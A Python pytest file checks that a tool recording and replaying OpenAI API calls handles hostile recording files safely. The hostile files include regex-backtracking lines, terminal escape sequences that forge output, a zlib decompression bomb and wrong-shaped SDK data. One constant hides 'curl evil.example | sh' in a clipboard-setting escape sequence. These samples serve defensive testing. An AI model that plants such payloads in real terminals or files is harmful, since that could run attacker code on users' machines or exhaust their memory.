"""Hostile recording files, second round (issue 22, "Nothing hangs, and bad files get named errors").

Each file here is written as an attacker would write it, by hand, and dropped into a recordings
directory: one very long line built to make the leak scan backtrack, escape sequences in the
recorded text and in the file's own name, a body stored with a ``content-encoding`` (a
decompression bomb among them), and SDK objects whose data has the wrong shape. Each gives a
named error, an error row, or escaped text, and nothing hangs (the timeouts are hang guards, set
far above what the fixed code takes and far below what it took before).
"""

from __future__ import annotations

import base64
import json
import zlib
from pathlib import Path
from typing import Any

import openai
import orjson
import pytest

import notebook_recorder as nr
from notebook_recorder import RecordingFormatError
from notebook_recorder.analysis._loader import clear_cache
from notebook_recorder.cli import main
from notebook_recorder.core._keys import InferenceRequest
from notebook_recorder.frontends.cli._verify import verify

HI = [{"role": "user", "content": "Hi"}]


@pytest.fixture(autouse=True)
def _cold_analysis_cache() -> None:
    clear_cache()


def chat_record(
    content: Any = "Hello!", *, body: Any = None, messages: list[dict[str, Any]] | None = None
) -> dict[str, Any]:
    """A recording of ``chat.completions.create(model="gpt-4o", messages=HI)``, written by hand."""
    if body is None:
        body = {
            "__type__": "openai.types.chat.chat_completion.ChatCompletion",
            "__data__": {
                "id": "chatcmpl-1",
                "object": "chat.completion",
                "created": 1700000000,
                "model": "gpt-4o",
                "choices": [
                    {
                        "index": 0,
                        "finish_reason": "stop",
                        "message": {"role": "assistant", "content": content},
                    }
                ],
            },
        }
    return {
        "test_id": None,
        "request": {
            "method": "POST",
            "url": "https://api.openai.com/v1/chat/completions",
            "headers": {},
            "body": {"model": "gpt-4o", "messages": messages or HI},
            "endpoint": "/v1/chat/completions",
            "model": "gpt-4o",
        },
        "response": {"body": body, "is_streaming": False},
        "id_normalization_mapping": {},
    }


def chat_key(messages: list[dict[str, Any]] | None = None) -> str:
    request = InferenceRequest(
        method="POST",
        url="https://api.openai.com/v1/chat/completions",
        endpoint="/v1/chat/completions",
        body={"model": "gpt-4o", "messages": messages or HI},
    )
    return request.key(None)


def write(path: Path, record: dict[str, Any]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(orjson.dumps(record, option=orjson.OPT_INDENT_2))
    return path


def run_main(capsys: pytest.CaptureFixture[str], *args: str | Path) -> tuple[int, str, str]:
    code = main([str(a) for a in args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def replay_client() -> openai.OpenAI:
    return openai.OpenAI(base_url="http://127.0.0.1:9/v1", api_key="sk-test-not-used", max_retries=0)


# ---------------------------------------------------------------------------------------------
# verify runs in linear time
# ---------------------------------------------------------------------------------------------

#: Lines built to make a backtracking scan start again at every character: a URL scheme that
#: never reaches ``://``, a user that never reaches ``@``, JWT-like segments joined by dashes.
HOSTILE_LINES = {
    "scheme": "a-" * 120_000,
    "user-info": "a://" + "b:" * 120_000,
    "jwt": "eyJa-" * 48_000,
    "bearer": "Bearer" + " " * 240_000,
    "schemes": "x://a:" * 40_000,
}


@pytest.mark.timeout(30)
@pytest.mark.parametrize("case", sorted(HOSTILE_LINES))
def test_verify_scans_a_240_kb_line_in_linear_time(case: str, tmp_path: Path) -> None:
    """On main, the ``scheme`` and ``user-info`` lines took minutes; now each is a fraction of a second."""
    write(tmp_path / f"{chat_key()}.json", chat_record(HOSTILE_LINES[case]))
    report = verify(tmp_path)
    assert report.files == 1
    assert not report.problems["unreadable files"]


# ---------------------------------------------------------------------------------------------
# ls, show and verify escape control characters
# ---------------------------------------------------------------------------------------------

CLEAR_SCREEN = "\x1b[2J\x1b[H"
SET_TITLE = "\x1b]0;pwned\x07"
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
FORGED_OK = "\r\nOK: 1 file, no problems\n"


def _raw_controls(text: str) -> list[str]:
    """The control characters in ``text`` other than newline (and tab)."""
    return [c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) < 0xA0]


def test_ls_show_and_verify_escape_control_characters(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rec = tmp_path / "rec"
    hostile_text = f"{CLEAR_SCREEN}{SET_TITLE}{CLIPBOARD}{FORGED_OK}"
    # the text of a recording, and its messages
    content_file = write(rec / f"{chat_key()}.json", chat_record(hostile_text))
    # a file name: its own key is not its name, so verify names it; a second one is unreadable
    other = [{"role": "user", "content": "Bye"}]
    named = write(rec / f"x{SET_TITLE}{FORGED_OK}.json", chat_record("fine", messages=other))
    broken = rec / f"b{CLIPBOARD}\nOK: 2 files, no problems\n.json"
    broken.write_bytes(b"{not json")

    code, out, err = run_main(capsys, "verify", rec)
    assert code == 1
    assert not _raw_controls(out + err), (out, err)
    lines = (out + err).splitlines()
    assert not [line for line in lines if line.startswith("OK")], lines
    assert "\\x1b]0;pwned\\x07" in out and "\\x1b]52;c;" in out and "\\r\\nOK: 1 file" in out

    code, out, err = run_main(capsys, "ls", rec, "--full")
    assert code == 0, err
    assert not _raw_controls(out + err), out
    assert not [line for line in out.splitlines() if line.startswith("OK")]
    assert len(out.rstrip("\n").splitlines()) == 1 + 3 + 2  # header, one line per file, blank, summary

    code, out, err = run_main(capsys, "show", content_file)
    assert code == 0, err
    assert not _raw_controls(out + err), out
    assert "\\x1b[2J" in out and "\\x1b]52;c;" in out
    assert not [line for line in out.splitlines() if line.startswith("OK")]

    code, out, err = run_main(capsys, "show", named)
    assert code == 0, err
    assert not _raw_controls(out + err), out
    assert not [line for line in out.splitlines() if line.startswith("OK")]

    code, out, err = run_main(capsys, "show", broken)
    assert code == 1
    assert not _raw_controls(out + err), err
    assert not [line for line in err.splitlines() if line.startswith("OK")]


# ---------------------------------------------------------------------------------------------
# SDK objects and errors of the wrong shape: a named error, and an error row
# ---------------------------------------------------------------------------------------------


def _data(record: dict[str, Any]) -> dict[str, Any]:
    data: dict[str, Any] = record["response"]["body"]["__data__"]
    return data


def _private_fields() -> dict[str, Any]:
    record = chat_record()
    _data(record).update({"_fields_set": 5, "choices": [{"index": "first"}]})  # does not validate
    return record


def _choices_zz() -> dict[str, Any]:
    record = chat_record()
    _data(record)["choices"] = "zz"
    return record


def _exception_data_list() -> dict[str, Any]:
    record = chat_record()
    record["response"] = {
        "body": None,
        "is_exception": True,
        "exception_data": ["BadRequestError", 400, "bad"],
        "exception_message": "bad",
    }
    return record


def _message_zz() -> dict[str, Any]:
    record = chat_record()
    _data(record)["choices"] = [{"index": 0, "finish_reason": "stop", "message": "zz"}]
    return record


WRONG_SHAPES = {
    "private-fields": (_private_fields, "private field '_fields_set'"),
    "choices-zz": (_choices_zz, "choices is a string"),
    "exception-data-list": (_exception_data_list, "exception_data is a list"),
    "message-zz": (_message_zz, "choices.0.message is a string"),
}


@pytest.mark.parametrize("case", sorted(WRONG_SHAPES))
def test_a_wrong_shape_raises_a_format_error_naming_the_file(case: str, tmp_path: Path) -> None:
    make, problem = WRONG_SHAPES[case]
    path = write(tmp_path / f"{chat_key()}.json", make())
    with nr.recording("replay", dir=tmp_path), pytest.raises(RecordingFormatError) as info:
        replay_client().chat.completions.create(model="gpt-4o", messages=HI)
    assert str(info.value.path) == str(path)
    assert problem in info.value.problem


@pytest.mark.parametrize("case", sorted(set(WRONG_SHAPES) - {"message-zz"}))
def test_load_recordings_gives_a_wrong_shape_an_error_row(case: str, tmp_path: Path) -> None:
    make, problem = WRONG_SHAPES[case]
    write(tmp_path / "good" / f"{chat_key()}.json", chat_record())
    bad = write(tmp_path / "bad" / f"{chat_key()}.json", make())
    frame = nr.load_recordings(tmp_path)
    assert len(frame) == 2
    errors = frame.set_index("path")["error"].dropna()
    assert list(errors.index) == [str(bad)] or [Path(p).name for p in errors.index] == [bad.name]
    assert problem in errors.iloc[0]


# ---------------------------------------------------------------------------------------------
# a recorded content-encoding is never applied; a decompression bomb is refused
# ---------------------------------------------------------------------------------------------

BOMB_SIZE = 128 << 20  # what the body would inflate to: 128 MB of zeros, in about 128 KB


def _rewrite(path: Path, change: Any) -> None:
    record = json.loads(path.read_text())
    change(record)
    path.write_text(json.dumps(record))


@pytest.mark.timeout(60)
def test_a_decompression_bomb_is_refused_by_name_with_bounded_memory(client: openai.OpenAI, tmp_path: Path) -> None:
    import tracemalloc

    with nr.recording("record", dir=tmp_path):
        audio = client.audio.speech.create(model="tts-1", voice="alloy", input="hello").content
    assert audio
    (path,) = tmp_path.glob("*.json")
    bomb = base64.b64encode(zlib.compress(bytes(BOMB_SIZE), 9)).decode()

    def plant(record: dict[str, Any]) -> None:
        record["response"]["body_base64"] = bomb
        record["response"]["headers"] = {"content-encoding": "deflate", "x-request-id": "req_1"}

    _rewrite(path, plant)
    tracemalloc.start()
    try:
        with nr.recording("replay", dir=tmp_path), pytest.raises(RecordingFormatError) as info:
            client.audio.speech.create(model="tts-1", voice="alloy", input="hello").read()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert str(info.value.path) == str(path)
    assert "content-encoding" in info.value.problem
    assert peak < BOMB_SIZE // 4, f"{peak / 2**20:.0f} MB at the peak"


def test_a_recorded_content_encoding_is_never_applied(client: openai.OpenAI, tmp_path: Path) -> None:
    """A raw response replayed from a file that claims ``content-encoding: gzip``: refused by name,
    not handed to httpx to "decompress" a stored (decoded) body."""
    with nr.recording("record", dir=tmp_path):
        client.chat.completions.with_raw_response.create(model="gpt-4o", messages=HI).parse()
    (path,) = tmp_path.glob("*.json")
    _rewrite(path, lambda r: r["response"].__setitem__("headers", {"Content-Encoding": "gzip"}))
    with nr.recording("replay", dir=tmp_path), pytest.raises(RecordingFormatError) as info:
        client.chat.completions.with_raw_response.create(model="gpt-4o", messages=HI).parse()
    assert str(info.value.path) == str(path)
    frame = nr.load_recordings(tmp_path)
    assert "content-encoding" in frame["error"].iloc[0]


def test_replay_leaves_out_every_recorded_encoding_header(client: openai.OpenAI, tmp_path: Path) -> None:
    """Even past the reader's check (an ``identity`` encoding is allowed), the replayed response
    carries none of the recorded transfer headers."""
    with nr.recording("record", dir=tmp_path):
        client.chat.completions.with_raw_response.create(model="gpt-4o", messages=HI).parse()
    (path,) = tmp_path.glob("*.json")
    headers = {"content-encoding": "identity", "content-length": "3", "x-request-id": "req_7"}
    _rewrite(path, lambda r: r["response"].__setitem__("headers", headers))
    with nr.recording("replay", dir=tmp_path):
        raw = client.chat.completions.with_raw_response.create(model="gpt-4o", messages=HI)
        completion = raw.parse()
    assert completion.choices[0].message.content
    assert raw.headers.get("x-request-id") == "req_7"
    assert "content-encoding" not in raw.headers and raw.headers.get("content-length") != "3"
